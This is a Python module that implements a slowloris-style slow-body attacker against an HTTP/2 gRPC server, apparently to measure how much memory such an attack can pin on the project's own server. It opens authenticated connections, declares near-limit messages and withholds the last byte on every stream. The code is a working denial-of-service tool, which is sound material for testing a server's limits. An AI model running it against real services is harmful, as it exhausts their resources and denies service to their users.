"""A slow-body (slowloris) attacker: completed handshakes, request bodies never finished.

The attacker holds a real certificate (an insider: any investigator, or a
hostile broker), so its TLS and HTTP/2 handshakes complete. On each connection
it opens as many calls as the server allows, declares a request message just
under the server's size limit in the gRPC length prefix, and then sends body
bytes as fast as the server's HTTP/2 flow control grants them — and never the
last byte. Whatever the server buffers for those calls is the per-connection
memory an attacker can pin. Written with ``h2`` (python-hyper), so the frames
are exactly what the attacker chooses, not what a well-behaved gRPC client sends.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events

from fieldgate.core.tls import TLSFiles

QUIET_SECONDS = 1.0
"""A connection is judged to grant no more credit when it sends none for this long."""


@dataclass
class SlowBody:
    """One attacker connection and what the server let it send."""

    sock: ssl.SSLSocket
    conn: h2.connection.H2Connection
    streams: list[int] = field(default_factory=list)
    sent: int = 0
    """Body bytes the server's flow control accepted (and so may be buffering)."""
    refused: int = 0
    """Calls the server ended (reset or answered) instead of waiting for their body."""

    def close(self) -> None:
        """Drop the connection."""
        self.sock.close()


def _flush(attack: SlowBody) -> bool:
    """Send the frames h2 queued; False if the server stopped reading (TCP backpressure)."""
    data = attack.conn.data_to_send()
    try:
        if data:
            attack.sock.sendall(data)
    except TimeoutError:
        return False
    return True


def _feed(attack: SlowBody, pending: dict[int, int]) -> bool:
    """Send whatever credit allows; read the server's frames. False once it goes quiet."""
    for stream_id, left in list(pending.items()):
        window = min(
            attack.conn.local_flow_control_window(stream_id),
            attack.conn.max_outbound_frame_size,
            left,
        )
        if window > 0:
            attack.conn.send_data(stream_id, b"\0" * window)
            attack.sent += window
            pending[stream_id] = left - window
    if not _flush(attack):
        return False
    if not attack.sock.pending() and not select.select([attack.sock], [], [], QUIET_SECONDS)[0]:
        return False
    data = attack.sock.recv(65536)
    if not data:
        return False
    for event in attack.conn.receive_data(data):
        ended = isinstance(event, h2.events.StreamReset | h2.events.StreamEnded)
        ended = ended or isinstance(event, h2.events.ResponseReceived)
        stream_id = getattr(event, "stream_id", None)
        if ended and stream_id in pending:
            del pending[stream_id]
            attack.refused += 1
    return _flush(attack)


def slow_body(
    address: str, tls: TLSFiles, server_name: str, path: str, *, calls: int, declared: int
) -> SlowBody:
    """Open one connection to ``address`` and up to ``calls`` calls of ``path`` never finished.

    Each call announces a ``declared``-byte message (an attacker picks just under the
    server's limit) and sends all of it the server lets in but the last byte.

    Returns once the server grants no more flow-control credit; the connection
    stays open (``close()`` it).
    """
    context = ssl.create_default_context(cafile=str(tls.ca))
    context.load_cert_chain(str(tls.cert), str(tls.key))
    context.set_alpn_protocols(["h2"])
    host, port = address.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=10)
    sock = context.wrap_socket(raw, server_hostname=server_name)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    attack = SlowBody(sock, conn)
    _flush(attack)
    # The server's SETTINGS first: its stream cap and initial windows.
    while not any(
        isinstance(event, h2.events.RemoteSettingsChanged)
        for event in conn.receive_data(sock.recv(65536))
    ):
        pass
    _flush(attack)
    pending: dict[int, int] = {}
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", server_name),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    for _ in range(calls):
        if conn.open_outbound_streams >= conn.remote_settings.max_concurrent_streams:
            break
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        # The gRPC message prefix: not compressed, ``declared`` bytes long.
        conn.send_data(stream_id, struct.pack(">BI", 0, declared))
        attack.streams.append(stream_id)
        pending[stream_id] = declared - 1  # the last byte never comes
    while pending and _feed(attack, pending):
        pass
    return attack
